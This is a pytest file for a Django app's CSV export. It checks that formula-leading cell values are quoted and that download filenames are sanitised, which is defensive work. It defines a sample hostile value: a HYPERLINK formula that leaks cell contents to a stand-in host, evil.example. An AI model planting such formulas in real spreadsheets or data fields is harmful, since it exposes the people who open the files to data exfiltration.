"""CSV exports cannot smuggle formulas into a spreadsheet (probe finding 3)."""

import csv
import io

import pytest
from django_scopes import scopes_disabled

from core.spreadsheet import csv_response, safe_cell
from tests.applications import scenario
from tests.applications.test_selection import start

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_leading_text_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value, shown", [(None, ""), (-3, "-3"), (1.5, "1.5"), ("Ada", "Ada"), (True, "yes")])
def test_plain_values_are_unchanged(value, shown):
    assert safe_cell(value) == shown


def test_csv_response_neutralises_header_preamble_and_rows():
    response = csv_response("a b\"/c.csv", ["=h"], [["@x", 1]], preamble=[["+p"]])
    assert response["Content-Disposition"] == 'attachment; filename="abc.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [["'+p"], ["'=h"], ["'@x", "1"]]


@pytest.mark.django_db
def test_selection_report_csv_quotes_a_hostile_applicant_name(organizer, client_for,
                                                              django_capture_on_commit_callbacks):
    s = scenario.build(organizer)
    with scopes_disabled():
        person = s.people["White One"].applicant
        person.full_name = HOSTILE
        person.save()
    staff = client_for(s.staff)
    run, _ = start(staff, s, django_capture_on_commit_callbacks)
    body = staff.get(s.url("run_csv", run_id=run.pk)).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
